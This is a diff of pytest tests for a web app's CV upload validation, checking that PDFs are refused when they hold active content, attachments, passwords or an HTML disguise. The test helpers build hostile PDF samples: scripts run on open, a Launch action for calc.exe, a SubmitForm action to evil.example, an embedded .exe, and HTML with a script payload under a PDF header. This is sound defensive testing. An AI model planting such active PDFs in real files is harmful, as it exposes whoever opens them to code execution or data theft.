@@ -6,6 +6,10 @@ import re
 from contextlib import contextmanager
 
 import pytest
+from bs4 import BeautifulSoup
+from pypdf import PdfWriter
+from pypdf.annotations import Link
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
 from marketplace import create_app
 from marketplace.accounts.roles import Role
@@ -14,7 +18,7 @@ from marketplace.calendars import services as calendars
 from marketplace.extensions import db
 from marketplace.participants import services as participants
 from tests.conftest import base_config, english_client
-from tests.participant_helpers import PDF, make_participant
+from tests.participant_helpers import PDF, make_participant, pdf_file
 
 
 def test_pages_forbid_inline_code_and_framing(client):
@@ -223,6 +227,11 @@ NOT_PDFS = {
     "program named .pdf": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 64,
     "Word file named .pdf": b"PK\x03\x04\x14\x00\x06\x00word/document.xml",
     "PDF header on HTML": b"%PDF-1.4\n<html><script>alert(1)</script></html>",
+    "PDF header and end on HTML": b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n",
+    "HTML with a PDF's trailer": (
+        b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n"
+        b"trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
+    ),
     "empty file": b"",
 }
 
@@ -269,10 +278,136 @@ def test_the_content_decides_not_the_name_or_the_declared_type(app, signed_in_cl
     assert download.headers["X-Content-Type-Options"] == "nosniff"
 
 
+def blank_pdf_writer() -> PdfWriter:
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    return writer
+
+
+def action(kind: str, **entries) -> DictionaryObject:
+    return DictionaryObject(
+        {NameObject("/S"): NameObject(kind)}
+        | {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()}
+    )
+
+
+def pdf_with_document_javascript() -> bytes:
+    writer = blank_pdf_writer()
+    script = writer._add_object(action("/JavaScript", JS="app.alert('hello');"))
+    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), script])})
+    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
+    return pdf_file(writer)
+
+
+def pdf_with_open_action(kind: str, **entries) -> bytes:
+    writer = blank_pdf_writer()
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action(kind, **entries))
+    return pdf_file(writer)
+
+
+def pdf_with_page_action_javascript() -> bytes:
+    """The script hides in an additional action (/AA) run when the first page opens."""
+    writer = blank_pdf_writer()
+    opened = DictionaryObject({NameObject("/O"): action("/JavaScript", JS="app.alert(1)")})
+    writer.pages[0][NameObject("/AA")] = opened
+    return pdf_file(writer)
+
+
+def pdf_with_attachment() -> bytes:
+    writer = blank_pdf_writer()
+    writer.add_attachment("invoice.exe", b"MZ\x90\x00")
+    return pdf_file(writer)
+
+
+def pdf_with_password() -> bytes:
+    writer = blank_pdf_writer()
+    writer.encrypt("secret", algorithm="RC4-128")
+    return pdf_file(writer)
+
+
+def pdf_with_links() -> bytes:
+    """What CVs are full of: a web link, and opening at the first page."""
+    writer = blank_pdf_writer()
+    writer.add_annotation(0, Link(rect=(50, 50, 250, 80), url="https://www.linkedin.com/in/olena"))
+    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
+        [writer.pages[0].indirect_reference, NameObject("/Fit")]
+    )
+    return pdf_file(writer)
+
+
+ACTIVE_PDFS = {
+    "document JavaScript": pdf_with_document_javascript,
+    "JavaScript when opened": lambda: pdf_with_open_action("/JavaScript", JS="app.alert(1)"),
+    "JavaScript in a page's additional actions": pdf_with_page_action_javascript,
+    "program launched when opened": lambda: pdf_with_open_action("/Launch", F="calc.exe"),
+    "form sent elsewhere when opened": lambda: pdf_with_open_action(
+        "/SubmitForm", F="https://evil.example/"
+    ),
+    "attached program": pdf_with_attachment,
+}
+
+
+def field_error(page: str, field_id: str) -> str:
+    """The error shown with a field, which the field itself names as its description."""
+    soup = BeautifulSoup(page, "html.parser")
+    field = soup.find(id=field_id)
+    assert field is not None and field.get("aria-invalid") == "true"
+    error = soup.find(id=f"{field_id}-error")
+    assert error is not None and error["id"] in field["aria-describedby"].split()
+    return error.get_text(" ", strip=True)
+
+
+@pytest.mark.parametrize("build", ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
+def test_a_pdf_that_runs_code_or_carries_files_is_refused_kindly_next_to_the_field(
+    app, signed_in_client, build
+):
+    participant, user = participant_uploading(app, signed_in_client)
+    response = upload_cv(participant, build())
+    assert response.status_code == 400
+    error = field_error(response.get_data(as_text=True), "cv")
+    assert "we only accept plain PDF files" in error
+    assert "Please save your CV as PDF again" in error
+    assert stored_cv(user) is None
+
+
+def test_a_pdf_with_a_password_is_refused_with_what_to_do(app, signed_in_client):
+    participant, user = participant_uploading(app, signed_in_client)
+    response = upload_cv(participant, pdf_with_password())
+    assert response.status_code == 400
+    error = field_error(response.get_data(as_text=True), "cv")
+    assert "protected by a password" in error and "without a password" in error
+    assert stored_cv(user) is None
+
+
+def test_a_file_that_only_looks_like_a_pdf_is_refused_next_to_the_field(app, signed_in_client):
+    participant, user = participant_uploading(app, signed_in_client)
+    response = upload_cv(participant, NOT_PDFS["PDF header and end on HTML"])
+    assert response.status_code == 400
+    assert "This file is not a PDF" in field_error(response.get_data(as_text=True), "cv")
+    assert stored_cv(user) is None
+
+
+@pytest.mark.parametrize("content", [PDF, pdf_with_links()], ids=["blank page", "with links"])
+def test_a_plain_pdf_is_kept(app, signed_in_client, content):
+    participant, user = participant_uploading(app, signed_in_client)
+    page = upload_cv(participant, content).get_data(as_text=True)
+    assert "Your CV is saved." in page
+    assert stored_cv(user) is not None
+    assert participant.get("/participants/me/cv").data == content
+
+
 def pdf_of_size(size: int) -> bytes:
-    """A PDF made exactly ``size`` bytes long by a comment line."""
-    comment = b"%" + b" " * (size - len(PDF) - 2) + b"\n"
-    return PDF.replace(b"%%EOF", comment + b"%%EOF")
+    """A real PDF made exactly ``size`` bytes long by padding in its metadata."""
+    padding = 0
+    for _attempt in range(5):
+        writer = PdfWriter()
+        writer.add_blank_page(width=595, height=842)
+        writer.add_metadata({"/Subject": "x" * padding})
+        content = pdf_file(writer)
+        if len(content) == size:
+            return content
+        padding += size - len(content)  # the offsets' digits may grow: measure again
+    raise ValueError(f"no PDF of exactly {size} bytes")
 
 
 def test_a_cv_of_the_largest_size_is_kept_and_one_byte_more_refused(app, signed_in_client):
